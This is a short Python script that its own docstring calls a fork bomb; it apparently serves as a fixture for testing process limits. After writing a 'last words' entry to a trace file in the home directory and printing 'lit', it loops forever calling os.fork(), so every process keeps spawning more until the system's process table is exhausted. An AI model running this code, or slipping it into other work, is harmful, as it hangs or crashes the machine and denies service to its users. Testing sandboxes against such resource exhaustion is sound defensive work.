"""A fork bomb: every process forks whenever it can, and none ever ends."""
import os
import sys
import time

with open(os.path.expanduser("~/trace.jsonl"), "w") as trace:
    trace.write('{"type": "last words"}\n')
print("lit", flush=True)
spin = "--spin" in sys.argv
while True:
    try:
        os.fork()
    except OSError:
        if not spin:
            time.sleep(0.001)
